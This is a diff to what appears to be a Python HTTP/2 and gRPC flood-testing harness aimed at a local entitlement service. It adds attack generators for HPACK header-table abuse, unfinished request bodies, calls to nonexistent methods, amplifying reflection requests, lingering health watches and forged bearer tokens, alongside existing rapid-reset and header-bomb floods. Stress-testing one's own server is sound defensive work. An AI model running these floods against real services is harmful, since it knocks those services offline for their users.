@@ -3,6 +3,8 @@
 Each attacker keeps one connection to the server and begins another when it is closed. It reads what it is answered, so that the
 server's output is no excuse, unless its name says otherwise.
 """
+import base64
+import hashlib
 import select
 import socket
 import struct
@@ -95,6 +97,59 @@ def opening_windows(stream):
     return b"".join(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, stream // 4 * (turn % 2))) for turn in range(20))
 
 
+def request(path, *fields):
+    return b"".join(literal(name, value) for name, value in (
+        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost"),
+        (b"content-type", b"application/grpc"), (b"te", b"trailers"), *fields))
+
+
+def named_heads(stream):
+    """Requests that stay open, each of which names one field of 3.9 kB in the table."""
+    value = b"z" * 3_900
+    entry = b"\x40\x0dauthorization\x7f" + integer(len(value) - 127) + value
+    return frame(HEADERS, END_HEADERS, stream, HEAD + entry) + b"".join(
+        frame(HEADERS, END_HEADERS, number, HEAD + b"\xbe") for number in range(stream + 2, stream + 400, 2))
+
+
+def unfinished_bodies(stream):
+    """Requests that lack the end of their messages."""
+    body = b"\0" + struct.pack(">I", 14_000) + b"x" * 8_000
+    return b"".join(frame(HEADERS, END_HEADERS, number, HEAD) + frame(DATA, 0, number, body)
+                    for number in range(stream, stream + 40, 2))
+
+
+def refused_calls(stream):
+    """Calls of a method that there is not."""
+    head = request(b"/perch.v1.EntitlementService/Nothing")
+    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, number, head) for number in range(stream, stream + 400, 2))
+
+
+def reflections(stream):
+    """Requests of some twenty bytes for descriptors of some fifty kilobytes."""
+    head = request(b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")
+    ask = b"\x22\x1bperch.v1.EntitlementService"
+    return b"".join(frame(HEADERS, END_HEADERS, number, head) + frame(
+        DATA, 0, number, (b"\0" + struct.pack(">I", len(ask)) + ask) * 100) for number in range(stream, stream + 10, 2))
+
+
+def health_watches(stream):
+    """Watches of health that stay open."""
+    head = request(b"/grpc.health.v1.Health/Watch")
+    return b"".join(frame(HEADERS, END_HEADERS, number, head) + frame(DATA, END_STREAM, number, b"\0" * 5)
+                    for number in range(stream, stream + 200, 2))
+
+
+def bad_tokens(stream):
+    """Calls with tokens whose signatures are wrong, each another one."""
+    def head(number):
+        claims = base64.urlsafe_b64encode(b'{"jti":"%d","exp":4000000000}' % number).rstrip(b"=")
+        token = b"Bearer eyJhbGciOiJFUzI1NiJ9." + claims + b"." + base64.urlsafe_b64encode(
+            hashlib.sha512(b"%d" % number).digest()).rstrip(b"=")
+        return HEAD + b"\x10\x0dauthorization\x7f" + integer(len(token) - 127) + token
+    return b"".join(frame(HEADERS, END_HEADERS, number, head(number)) + frame(DATA, END_STREAM, number, MESSAGE)
+                    for number in range(stream, stream + 200, 2))
+
+
 def integer(value):
     out = b""
     while value > 127:
@@ -104,7 +159,8 @@ def integer(value):
 
 
 KINDS = (rapid_reset, answered_reset, overflowing_windows, empty_windows, continuations, pings, settings, header_bombs,
-         tiny_windows, opening_windows)
+         tiny_windows, opening_windows, named_heads, unfinished_bodies, refused_calls, reflections, health_watches,
+         bad_tokens)
 
 
 def flood(address, kinds, stop):
